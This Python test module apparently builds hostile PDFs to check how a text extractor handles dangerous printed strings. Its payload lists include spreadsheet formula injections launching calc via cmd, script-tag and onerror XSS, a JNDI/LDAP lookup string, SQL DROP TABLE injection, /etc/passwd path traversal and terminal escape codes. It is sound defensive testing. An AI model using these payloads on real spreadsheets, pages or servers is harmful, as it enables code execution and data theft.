"""What is printed: texts that mean something to a spreadsheet, a terminal, a page of HTML or a font."""

from __future__ import annotations

from collections.abc import Mapping

from tests.hostile.raw import CONTENT, FONT, Objects, flate, one_page, pdf, stream, table

FORMULAS = (
    "=cmd|'/C calc'!A0", "=HYPERLINK(\"http://example.invalid/\",\"a\")", "+1+cmd|'/C calc'!A0",
    "-2+3+cmd|'/C calc'!A0",
    "@SUM(1+9)*cmd|'/C calc'!A0", "＝1+1", "＋1+1", "－1+1", "＠SUM(1)", "=1+1\";=1+1", "|calc", "%0A=1+1",
)  # fmt: skip
MARKUP = (
    "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "</td></table><h1>x", "[bold red]x[/]",
    "[link=file:///etc/passwd]x[/link]", "{{7*7}}", "${jndi:ldap://example.invalid/a}", "%s%n%x",
    "'; DROP TABLE fields;--",
    "../../../../etc/passwd", "C:\\Windows\\System32\\calc.exe", "\\\\example.invalid\\share",
)  # fmt: skip
TERMINAL = (
    "\x1b[2J\x1b[H",
    "\x1b]0;title\x07",
    "\x1b]8;;file:///etc/passwd\x1b\\x\x1b]8;;\x1b\\",
    "\x9b31m",
    "\x07\x08\x7f",
    "a\rb",
)
UNICODE = (
    "\u202edlrow", "a\u200b\u200c\u200d\ufeffb", "e" + "\u0301" * 500, "\u0000", "\ud800", "\udfff\ud800",
    "\ufffe\uffff",
    "\U0010ffff", "\U000e0041\U000e0042", "ﷺ" * 50, "가각", "\u3099\u309a", "㍿㋿㊙", "🏴\u200d☠️", "\ue000\uf8ff",
    "\xad\u00a0\u2028\u2029",
)  # fmt: skip


def printed(texts: tuple[str, ...]) -> bytes:
    """A ruled column of these texts, each in a cell. One code of the font stands for each UTF-16 unit."""
    units = [
        [text.encode("utf-16-be", "surrogatepass")[n : n + 2] for n in range(0, 2 * _length(text), 2)] for text in texts
    ]
    codes = {unit: number + 1 for number, unit in enumerate(sorted({unit for row in units for unit in row}))}
    rows = [b"<%s>" % b"".join(b"%04X" % codes[unit] for unit in row) for row in units]
    pairs = b"".join(b"<%04X> <%s>\n" % (code, unit.hex().encode()) for unit, code in codes.items())
    return pdf(_with_font(table(rows), pairs, len(codes)))


def mapped(unicode: bytes) -> bytes:
    """A page of one glyph that its font maps to these UTF-16 bytes."""
    return pdf(_with_font(table([b"<0001>", b"<00010001>"]), b"<0001> <%s>\n" % unicode.hex().encode(), 1))


def _length(text: str) -> int:
    return len(text.encode("utf-16-be", "surrogatepass")) // 2


def _with_font(content: bytes, pairs: bytes, count: int) -> Objects:
    cmap = (
        b"/CIDInit/ProcSet findresource begin 12 dict begin begincmap\n"
        b"1 begincodespacerange <0000> <FFFF> endcodespacerange\n"
        b"%d beginbfchar\n%sendbfchar endcmap end end" % (count, pairs)
    )
    return one_page() | {
        CONTENT: flate(content),
        FONT: b"<</Type/Font/Subtype/Type0/BaseFont/Gothic/Encoding/Identity-H/DescendantFonts[6 0 R]"
        b"/ToUnicode 8 0 R>>",
        6: b"<</Type/Font/Subtype/CIDFontType2/BaseFont/Gothic/CIDSystemInfo<</Registry(Adobe)/Ordering(Identity)"
        b"/Supplement 0>>"
        b"/DW 600/FontDescriptor 7 0 R>>",
        7: b"<</Type/FontDescriptor/FontName/Gothic/Flags 4/FontBBox[0 -200 1000 800]/Ascent 800/Descent -200"
        b"/StemV 80>>",
        8: flate(cmap),
    }


_SETTINGS = {
    "size_of_none": b"/F1 0 Tf", "size_beyond_all": b"/F1 1e38 Tf", "size_below_zero": b"/F1 -10 Tf", "no_font": b""
        b"/F9 10 Tf",
    "matrix_of_zeros": b"/F1 10 Tf 0 0 0 0 0 0 Tm", "matrix_beyond_all": b"/F1 10 Tf 1e38 1e38 1e38 1e38 1e38 1e38 Tm",
    "spacing_beyond_all": b"/F1 10 Tf 3e38 Tc 3e38 Tw", "scaled_to_nothing": b"/F1 10 Tf 0 Tz", "mirrored": b""
        b"/F1 10 Tf -100 Tz",
    "too_few_operands": b"Tf Tm Td TJ Tj ' \" re l c cm Do gs sh", "wrong_operands": b"(a) /F1 Tf [] [] Td /a "
        b"/b cm (c) (d) re",
    "operators_that_are_none": b"xyzzy \xff\xfe\0 >> ] ) }{", "inline_picture": b"ET BI /W 99999 /H 99999 /BPC 16 "
        b"/CS /CMYK ID x EI BT",
    "inline_picture_without_end": b"ET BI /W 9 /H 9 ID" + b"\0" * 999,
}  # fmt: skip

TEXTS: Mapping[str, bytes] = {
    "formulas": printed(FORMULAS),
    "markup": printed(MARKUP),
    "terminal_codes": printed(TERMINAL),
    "odd_unicode": printed(UNICODE),
    **{f"unicode_{number}": printed((text, "文")) for number, text in enumerate(UNICODE)},
    "glyph_of_500_characters": mapped("あ".encode("utf-16-be") * 500),
    "glyph_of_half_a_character": mapped(b"\xd8\x00"),
    "glyph_of_half_a_unit": mapped(b"\x30"),
    "glyph_of_nothing": mapped(b""),
    **{
        f"text_{name}": pdf(one_page() | {CONTENT: stream(b"BT %s (one) Tj ET\n" % words + table([b"(two)"]))})
        for name, words in _SETTINGS.items()
    },
}  # fmt: skip
